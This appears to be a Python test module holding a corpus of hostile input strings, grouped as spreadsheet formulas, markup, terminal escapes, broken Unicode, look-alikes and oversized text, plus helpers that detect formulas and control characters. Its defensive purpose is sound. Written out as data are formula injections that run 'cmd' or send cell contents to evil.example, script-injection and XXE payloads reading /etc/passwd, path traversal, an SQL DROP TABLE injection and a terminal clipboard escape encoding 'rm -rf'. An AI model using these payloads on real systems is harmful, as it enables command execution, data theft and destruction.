"""Texts that do harm where a program takes them for more than text, and how to see that they did none.

A name, a reason, a refusal of the national side, a file name: all of them were written by somebody, and end up in
pages, terminals, log lines, CSV files and workbooks. `TEXTS` holds one text for each way to misuse them:

    for name, text in hostile.TEXTS.items(): ...                  every text, by a name that tells what it tries
    @pytest.mark.parametrize("text", hostile.params())            a test for each, with readable ids
    hostile.storable(text)                                        as UTF-8 and SQLite can hold it: no NUL, no half pairs
    hostile.steering(printed)                                     what in an output could steer a terminal or its reader
    hostile.is_formula(cell)                                      whether a spreadsheet could take a cell for a formula

Groups: `FORMULAS` (a spreadsheet counts or calls), `MARKUP` (a page runs), `STEERING` (a terminal or log obeys, a line
begins anew, a reader is misled about order), `BROKEN` (no valid text), `LOOKS` (looks like something else, or does not
fit), `SIZES` (too long). Whoever prints, writes or shows text that comes from outside proves it with all of them.
May import: the standard library, pytest.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Mapping

import pytest

FORMULAS: Mapping[str, str] = {
    "formula": "=1+1",
    "formula that calls a program": "=cmd|' /C calc'!A0",
    "formula that sends a cell away": '=HYPERLINK("http://evil.example/?v="&A1,"Xem chi tiết")',
    "formula that asks a server": '=WEBSERVICE("http://evil.example/"&B2)',
    "formula that imports": '=IMPORTXML("http://evil.example","//a")',
    "formula of a link to data": '=DDE("cmd";"/C calc";"x")',
    "formula with a plus": "+1+cmd|' /C calc'!A0",
    "formula with a minus": "-2+3+cmd|' /C calc'!A0",
    "formula with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tabulator": "\t=1+1",
    "formula behind a carriage return": "\r=1+1",
    "formula behind a line end": "\n=1+1",
    "formula behind blanks": "   =1+1",
    "formula behind a no-break space": "\u00a0=1+1",
    "formula behind an ideographic space": "\u3000=1+1",
    "formula behind a zero-width space": "\u200b=1+1",
    "formula behind a byte order mark": "\ufeff=1+1",
    "formula behind a soft hyphen": "\u00ad=1+1",
    "formula behind a turn to the right": "\u202e=1+1",
    "formula behind an apostrophe": "'=1+1",
    "formula behind a quotation mark": '"=1+1',
    "formula of full-width signs": "\uff1d1+1",
    "formula with a full-width plus": "\uff0b1+1",
    "formula with a minus that is none": "\u22121+1",
    "formula of an array": "{=SUM(A1:A9)}",
    "cell that closes itself in CSV": 'x";=1+1;"',
    "cell that begins a row in CSV": "x\r\n=1+1;y",
    "cell that splits at a comma": "x,=1+1",
    "cell that says how CSV is split": "sep=;",
    "cell that is a number": "0123456789012",
    "cell that is a date": "1/2",
    "cell that is a link": "https://evil.example/a?b=c",
    "cell that is a file": "file://evil.example/share",
}

MARKUP: Mapping[str, str] = {
    "script": "<script>window.hostile=1</script>",
    "script in an attribute": '"><img src=x onerror="window.hostile=1">',
    "script in an attribute of one quote": "' onmouseover='window.hostile=1",
    "script in a link": "javascript:window.hostile=1",
    "script in a drawing": "<svg/onload=window.hostile=1>",
    "end of a script": "</script><script>window.hostile=1</script>",
    "end of a title": "</title></textarea></style><script>window.hostile=1</script>",
    "comment": "<!-- --><b>x</b><!--",
    "character data": "]]><x/>",
    "entity": "&lt;script&gt;&#x3c;&amp;",
    "entity of a document": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "template of ours": "{by} {0} {count!r} {__class__} %s %(x)s %n",
    "markup of a terminal library": "[red]x[/red] [link=http://evil.example]y[/link] [/]",
    "statement": "'; DROP TABLE audit_entry; --",
    "path": "../../../../etc/passwd",
    "JSON": '","seq":0,"hash":"x',
}

STEERING: Mapping[str, str] = {
    "colour": "\x1b[31mđỏ\x1b[0m",
    "clear the screen": "\x1b[2J\x1b[H",
    "title of the window": "\x1b]0;bị chiếm\x07",
    "link of a terminal": "\x1b]8;;http://evil.example\x1b\\xem\x1b]8;;\x1b\\",
    "clipboard of a terminal": "\x1b]52;c;cm0gLXJm\x07",
    "colour in one byte": "\x9b31mđỏ",
    "bell and backspaces": "ĐẠT\x08\x08\x08SAI\x07",
    "delete": "abc\x7f\x7f",
    "carriage return over a line": "SAI\rĐẠT",
    "line end": "dòng một\ndòng hai",
    "line end of two": "dòng một\r\ndòng hai",
    "line of a log": 'x\n{"event":"run.finished","level":"info"}',
    "line of an older log": "x\n2026-11-26 [info] mọi thứ đều tốt",
    "tabulator": "a\tb",
    "vertical tabulator and form feed": "a\x0bb\x0cc",
    "next line": "a\u0085b",
    "line separator": "a\u2028b\u2029c",
    "turn to the right": "\u202egpj.exe",
    "isolates": "\u2067abc\u2066def\u2069",
    "marks of direction": "\u200fabc\u200edef\u061c",
    "invisible tags": "x" + "".join(chr(0xE0000 + ord(c)) for c in "<b>") + "y",
    "invisible joins": "Nguy\u200bễn\u200d V\u2060ăn\ufeff A",
    "interlinear notes": "\ufff9a\ufffab\ufffb",
}

BROKEN: Mapping[str, str] = {
    "NUL": "a\x00b",
    "NUL at the front": "\x00=1+1",
    "all control characters": "".join(map(chr, range(0x20))) + "".join(map(chr, range(0x7F, 0xA0))),
    "half a pair": "a\ud800b",
    "the other half": "a\udc00b",
    "pair the wrong way round": "\udc00\ud800",
    "no characters": "a\ufffe\uffff\U0001ffff",
    "private use": "a\ue000\U000f0000b",
    "broken already": "a\ufffdb",
    "escapes of a workbook": "_x000D__x0000__x005F_x0000_",
}

LOOKS: Mapping[str, str] = {
    "zalgo": "Z" + "\u0336\u0321\u0328\u0300\u0301\u0302\u0303\u0304\u0306\u0307\u0308\u030a\u030b" * 20 + "algo",
    "Vietnamese taken apart": unicodedata.normalize("NFD", "Nguyễn Thị Đượm, ấp Phú Quới"),
    "Vietnamese of an older encoding": "NguyÔn ThÞ §­îm",
    "letters that look like others": "Nguу\u0435n V\u0430n \u0410",  # noqa: RUF001  that is the point
    "from right to left": "שלום مرحبا",
    "both directions": "abc שלום 123 مرحبا def",
    "emoji of many parts": "👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇻🇳",
    "wide letters": "漢字ｶﾀｶﾅ",
    "no letters": "\u3164\u115f\u2800",
    "nothing but blanks": "   ",
    "nothing": "",
    "quotation marks": "\"'`´“”‘’«»",  # noqa: RUF001  that is the point
    "separators": "a;b,c|d\\e/f",
    "names of nothing": "NULL None NaN undefined true",
}

SIZES: Mapping[str, str] = {
    "one word of 5,000 letters": "Đ" * 5_000,
    "line of a megabyte": "một hai ba " * 95_326,
    "formula of a megabyte": "=" + "1+" * 524_288,
    "ten thousand lines": "x\n" * 10_000,
    "ten thousand quotation marks": '"' * 10_000,
    "longer than a cell": "ệ" * 32_768,
    "pairs at the end of a cell": "a" + "👍" * 16_384,
}

TEXTS: Mapping[str, str] = {**FORMULAS, **MARKUP, **STEERING, **BROKEN, **LOOKS, **SIZES}


def params(texts: Mapping[str, str] = TEXTS) -> list[object]:
    """Return the texts as parameters of a test, called by their names: a failure must not print the text as its id."""
    return [pytest.param(text, id=name.replace(" ", "-")) for name, text in texts.items()]


def storable(text: str) -> str:
    """Return the text as UTF-8 and SQLite can hold it: halves of pairs as the replacement character, no NUL."""
    return text.encode("utf-8", "replace").decode("utf-8").replace("\x00", "\ufffd")


_STEERING_CLASSES = {"Cc", "Cf", "Cs", "Zl", "Zp"}
"""Control, format (bidi, zero-width, tags), halves of pairs, separators of lines and paragraphs."""


def steering(printed: str, allowed: str = "\n") -> set[str]:
    """Return the characters of an output that could steer a terminal, split a line or mislead about order, as `U+001B`.
    `allowed`: those that the output itself is made of. A file's own byte order mark is cut off by its reader."""
    found = {c for c in printed if unicodedata.category(c) in _STEERING_CLASSES and c not in allowed}
    return {f"U+{ord(c):04X}" for c in found}


_UNSEEN = {"Cc", "Cf", "Cn", "Co", "Cs", "Zl", "Zp", "Zs"}
_SIGNS = {"=", "+", "-", "@"}


def is_formula(cell: str) -> bool:
    """Return whether some spreadsheet could take the cell for a formula: what it sees first, blanks and what cannot be
    seen left aside, is a sign that begins one, in this or in another width."""
    seen = next((c for c in cell if unicodedata.category(c) not in _UNSEEN), "")
    return unicodedata.normalize("NFKC", seen) in _SIGNS or seen == "\u2212" or cell[:1] in {"\t", "\r"}
